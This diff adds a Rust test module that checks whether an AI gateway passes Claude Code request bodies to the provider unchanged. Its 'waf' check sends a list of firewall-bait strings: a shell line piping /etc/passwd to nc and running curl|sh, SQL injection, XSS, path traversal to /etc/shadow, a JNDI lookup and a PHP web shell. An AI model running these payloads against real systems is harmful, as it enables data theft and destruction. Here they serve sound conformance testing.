@@ -1,0 +1,324 @@
+//! The body: byte for byte where it can be, and in every field that the client relies on.
+
+use super::bench::{Bench, is_the_providers, message, no_answer, refusal};
+use super::check::{BlackBox, Check, Finding, Outcome};
+use super::echo::Script;
+use super::headers::{arrived, plain as plain_headers, refused};
+use crate::services::verify::request::NO_MODEL;
+use serde_json::{Value, json};
+
+const NO_BETAS: &str = "CLAUDE_CODE_DISABLE_EXPERIMENTAL_BETAS=1";
+/// A field of a release to come.
+const UNKNOWN: &str = "cf_aig_conformance";
+/// The first block of Claude Code's system prompt; Anthropic strips it when it stands first and alone.
+const ATTRIBUTION: &str = "x-anthropic-billing-header: cc_version=2.1.330; cc_entrypoint=sdk-cli;";
+/// As large as a long session's.
+const LARGE: usize = 200 * 1000;
+
+pub(super) const CHECKS: &[Check] = &[
+    Check {
+        id: "body-bytes",
+        group: "body",
+        title: "the body reaches the provider byte for byte",
+        otherwise: "what is written anew may lose what the gateway does not know, and misses caches keyed on the body",
+        black_box: BlackBox::No,
+        run: bytes,
+    },
+    Check {
+        id: "system-array",
+        group: "body",
+        title: "the system array keeps its blocks, their order and the attribution block first",
+        otherwise: "the attribution block becomes part of the prompt and of its cache key",
+        black_box: BlackBox::No,
+        run: |bench| same(bench, "/system").around("CLAUDE_CODE_ATTRIBUTION_HEADER=0"),
+    },
+    Check {
+        id: "cache-control",
+        group: "body",
+        title: "cache_control stays on system blocks, tools and messages",
+        otherwise: "nothing is read from the prompt cache, and every turn costs its full price",
+        black_box: BlackBox::No,
+        run: cache_control,
+    },
+    Check {
+        id: "thinking",
+        group: "body",
+        title: "thinking: {\"type\": \"adaptive\"} reaches the provider",
+        otherwise: "400 that names thinking, or no thinking",
+        black_box: BlackBox::No,
+        run: |bench| same(bench, "/thinking").around("CLAUDE_CODE_DISABLE_ADAPTIVE_THINKING=1"),
+    },
+    Check {
+        id: "beta-fields",
+        group: "body",
+        title: "context_management, output_config and tool fields reach the provider with their betas",
+        otherwise: "the features are lost, or 400 names the field whose beta came without it",
+        black_box: BlackBox::No,
+        run: beta_fields,
+    },
+    Check {
+        id: "unknown-fields",
+        group: "body",
+        title: "fields that nobody knows yet reach the provider",
+        otherwise: "a feature breaks with the release that brings its field",
+        black_box: BlackBox::Free,
+        run: unknown,
+    },
+    Check {
+        id: "large-body",
+        group: "body",
+        title: "a body of 200 kB passes",
+        otherwise: "sessions fail when they have grown, with 413 or no answer",
+        black_box: BlackBox::Free,
+        run: large,
+    },
+    Check {
+        id: "waf",
+        group: "body",
+        title: "bodies with shell, SQL, HTML and paths in them pass",
+        otherwise: "prompts that hold code fail at random with 403",
+        black_box: BlackBox::Free,
+        run: waf,
+    },
+];
+
+/// An ordinary body. Blanks, escapes and the order of its keys are such that a JSON library would write
+/// none of them so.
+pub(super) fn plain(model: &str) -> Vec<u8> {
+    let model = json!(model);
+    format!(
+        "{{ \"max_tokens\": 1,\"model\" : {model},\n \"messages\": [{{\"role\": \"user\", \
+         \"content\": \"caf\\u00e9 \\/ na\u{ef}ve \u{1f980}\"}}] }}"
+    )
+    .into_bytes()
+}
+
+/// One that has everything: what Claude Code 2.1.330 sends, and what it may send tomorrow.
+pub(super) fn rich(model: &str) -> Vec<u8> {
+    let mut body = json!({
+        "model": model,
+        "messages": [
+            {"role": "user", "content": [
+                {"type": "text", "text": "first"},
+                {"type": "text", "text": "second", "cache_control": {"type": "ephemeral"}},
+            ]},
+        ],
+        "system": [
+            {"type": "text", "text": ATTRIBUTION},
+            {"type": "text", "text": "You are a check.", "cache_control": {"type": "ephemeral", "ttl": "1h"}},
+            {"type": "text", "text": "Say ok."},
+        ],
+        "tools": [{
+            "name": "look",
+            "description": "Looks.",
+            "input_schema": {"type": "object", "properties": {"at": {"type": "string"}}},
+            "defer_loading": true,
+            "cache_control": {"type": "ephemeral"},
+        }],
+        "metadata": {"user_id": "cf-aig-conformance"},
+        "max_tokens": 2048,
+        "thinking": {"type": "adaptive"},
+        "context_management": {"edits": [{"type": "clear_tool_uses_20250919"}]},
+        "output_config": {"effort": "low"},
+        "stream": false,
+    });
+    body[UNKNOWN] = json!({"nested": [1, 2.50, null]});
+    body.to_string().into_bytes()
+}
+
+/// What `count_tokens` takes: no `max_tokens`.
+pub(super) fn to_count(model: &str) -> Vec<u8> {
+    json!({"model": model, "messages": [{"role": "user", "content": "How many tokens is this?"}]})
+        .to_string()
+        .into_bytes()
+}
+
+/// A field whose beta must come along, for a model that does not exist.
+pub(super) fn with_beta_field() -> Vec<u8> {
+    let mut body = for_free("hi");
+    body["context_management"] = json!({"edits": []});
+    body.to_string().into_bytes()
+}
+
+fn for_free(text: &str) -> Value {
+    json!({"model": NO_MODEL, "max_tokens": 1, "messages": [{"role": "user", "content": text}]})
+}
+
+fn bytes(bench: &Bench) -> Finding {
+    let sent = plain(bench.model());
+    let (tried, arrived) = bench.through_echo(Script::Whole, bench.messages(plain_headers(), sent.clone()));
+    let Some(request) = arrived.first() else {
+        return match tried {
+            Ok(heard) => Finding::broken(refusal(&heard)),
+            Err(failure) => no_answer(&failure, bench),
+        };
+    };
+    if let Some(encoding) = request.header("content-encoding") {
+        return Finding::degraded(format!("it arrived packed: {encoding}"));
+    }
+    if request.body == sent {
+        return Finding::works(format!("{} bytes", sent.len()));
+    }
+    let (sent, got) = (serde_json::from_slice::<Value>(&sent).unwrap_or_default(), request.json());
+    if sent == got {
+        return Finding::degraded("written anew: the same values, other bytes");
+    }
+    Finding::degraded(format!("written anew: {}", difference(&sent, &got)))
+}
+
+/// The first difference between two objects, in words.
+fn difference(sent: &Value, got: &Value) -> String {
+    let (Some(sent), Some(got)) = (sent.as_object(), got.as_object()) else {
+        return "no object arrived".to_owned();
+    };
+    let names = |from: &serde_json::Map<String, Value>, other: &serde_json::Map<String, Value>| {
+        let names: Vec<_> = from.keys().filter(|key| !other.contains_key(*key)).cloned().collect();
+        names.join(", ")
+    };
+    let (lost, added) = (names(sent, got), names(got, sent));
+    let changed: Vec<_> =
+        sent.iter().filter(|(k, v)| got.get(*k).is_some_and(|g| g != *v)).map(|(k, _)| k.as_str()).collect();
+    let parts = [("without ", lost), ("with ", added), ("changed ", changed.join(", "))];
+    let parts =
+        parts.iter().filter(|(_, names)| !names.is_empty()).map(|(how, names)| format!("{how}{names}"));
+    parts.collect::<Vec<_>>().join("; ")
+}
+
+/// A part of the rich body must arrive as it was sent.
+fn same(bench: &Bench, pointer: &str) -> Finding {
+    let request = match arrived(bench) {
+        Ok(request) => request,
+        Err(finding) => return finding,
+    };
+    let sent: Value = serde_json::from_slice(&rich(bench.model())).unwrap_or_default();
+    let (sent, got) =
+        (sent.pointer(pointer).cloned().unwrap_or_default(), request.json().pointer(pointer).cloned());
+    match got {
+        Some(got) if got == sent => Finding::works("as it was sent"),
+        Some(got) => {
+            let got: String = got.to_string().chars().take(160).collect();
+            Finding::broken(format!("it arrived as {got}"))
+        }
+        None => Finding::broken("it did not arrive"),
+    }
+}
+
+fn cache_control(bench: &Bench) -> Finding {
+    let places = ["/system/1/cache_control", "/tools/0/cache_control", "/messages/0/content/1/cache_control"];
+    let request = match arrived(bench) {
+        Ok(request) => request,
+        Err(finding) => return finding,
+    };
+    let (sent, got): (Value, Value) =
+        (serde_json::from_slice(&rich(bench.model())).unwrap_or_default(), request.json());
+    // wherever the blocks stand now: order is another check's business
+    let marks = |value: &Value| {
+        let mut marks = Vec::new();
+        collect(value, &mut marks);
+        marks.sort();
+        marks
+    };
+    let (wanted, found) = (marks(&sent), marks(&got));
+    if wanted == found {
+        return Finding::works(format!("{} marks", wanted.len()));
+    }
+    let lost: Vec<_> =
+        places.iter().filter(|place| got.pointer(place) != sent.pointer(place)).copied().collect();
+    Finding::broken(format!("lost or changed: {}", lost.join(", ")))
+}
+
+fn collect(value: &Value, into: &mut Vec<String>) {
+    match value {
+        Value::Object(map) => {
+            into.extend(map.get("cache_control").map(Value::to_string));
+            map.values().for_each(|value| collect(value, into));
+        }
+        Value::Array(list) => list.iter().for_each(|value| collect(value, into)),
+        _ => {}
+    }
+}
+
+fn beta_fields(bench: &Bench) -> Finding {
+    let request = match arrived(bench) {
+        Ok(request) => request,
+        Err(finding) => return finding,
+    };
+    let (sent, got): (Value, Value) =
+        (serde_json::from_slice(&rich(bench.model())).unwrap_or_default(), request.json());
+    let places = ["/context_management", "/output_config", "/tools/0/defer_loading"];
+    let lost: Vec<_> =
+        places.iter().filter(|place| got.pointer(place) != sent.pointer(place)).copied().collect();
+    if lost.is_empty() {
+        return Finding::works(format!("{} fields", places.len()));
+    }
+    Finding::broken(format!("lost or changed: {}", lost.join(", "))).around(NO_BETAS)
+}
+
+fn unknown(bench: &Bench) -> Finding {
+    if bench.echo().is_some() {
+        return match same(bench, &format!("/{UNKNOWN}")) {
+            finding if finding.evidence == "it did not arrive" => {
+                Finding::broken(format!("{UNKNOWN} did not arrive"))
+            }
+            finding => finding,
+        };
+    }
+    let mut body = for_free("hi");
+    body[UNKNOWN] = json!(true);
+    let tried = bench.send(&bench.messages(plain_headers(), body.to_string().into_bytes()));
+    refused(&tried, bench, |said| {
+        if said.contains(UNKNOWN) {
+            Finding::works(format!("the provider: {said}"))
+        } else {
+            Finding::broken(format!("the provider does not mind {UNKNOWN}, so it did not arrive: {said}"))
+        }
+    })
+}
+
+/// A body that must pass: it arrives at the echo as it was sent, or the provider refuses its model.
+fn passes(bench: &Bench, text: &str) -> Finding {
+    let mut body = for_free(text);
+    if bench.echo().is_some() {
+        body["model"] = json!(bench.model());
+    }
+    let ask = bench.messages(plain_headers(), body.to_string().into_bytes());
+    let (tried, arrived) = bench.through_echo(Script::Whole, ask);
+    let heard = match tried {
+        Ok(heard) => heard,
+        Err(failure) => return no_answer(&failure, bench),
+    };
+    if bench.echo().is_none() {
+        let by_provider = is_the_providers(&heard) && heard.status != 413;
+        return if by_provider { Finding::works(message(&heard)) } else { Finding::broken(refusal(&heard)) };
+    }
+    let Some(request) = arrived.first() else { return Finding::broken(refusal(&heard)) };
+    if request.json().to_string().contains(&json!(text).to_string().trim_matches('"').to_owned()) {
+        Finding::works(format!("{} bytes", request.body.len()))
+    } else {
+        Finding::broken("it arrived, and its text was changed")
+    }
+}
+
+fn large(bench: &Bench) -> Finding {
+    passes(bench, &"0123456789 lorem ipsum ".repeat(LARGE / 23))
+}
+
+/// What firewalls take for attacks, and what prompts are full of.
+const SUSPICIOUS: &[(&str, &str)] = &[
+    ("shell", "; cat /etc/passwd | nc 192.0.2.1 4444 && rm -rf / $(curl -s http://192.0.2.1/x.sh | sh)"),
+    ("SQL", "' OR '1'='1'; DROP TABLE users; -- UNION SELECT password FROM accounts"),
+    ("HTML", "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>"),
+    ("paths", "../../../../etc/shadow %2e%2e%2f..%5c c:\\windows\\win.ini"),
+    ("templates", "${jndi:ldap://192.0.2.1/a} {{7*7}} <?php system($_GET['c']); ?>"),
+];
+
+fn waf(bench: &Bench) -> Finding {
+    for (what, text) in SUSPICIOUS {
+        let finding = passes(bench, text);
+        if finding.outcome != Outcome::Works {
+            return Finding::broken(format!("{what}: {}", finding.evidence));
+        }
+    }
+    let kinds: Vec<_> = SUSPICIOUS.iter().map(|(what, _)| *what).collect();
+    Finding::works(kinds.join(", "))
+}
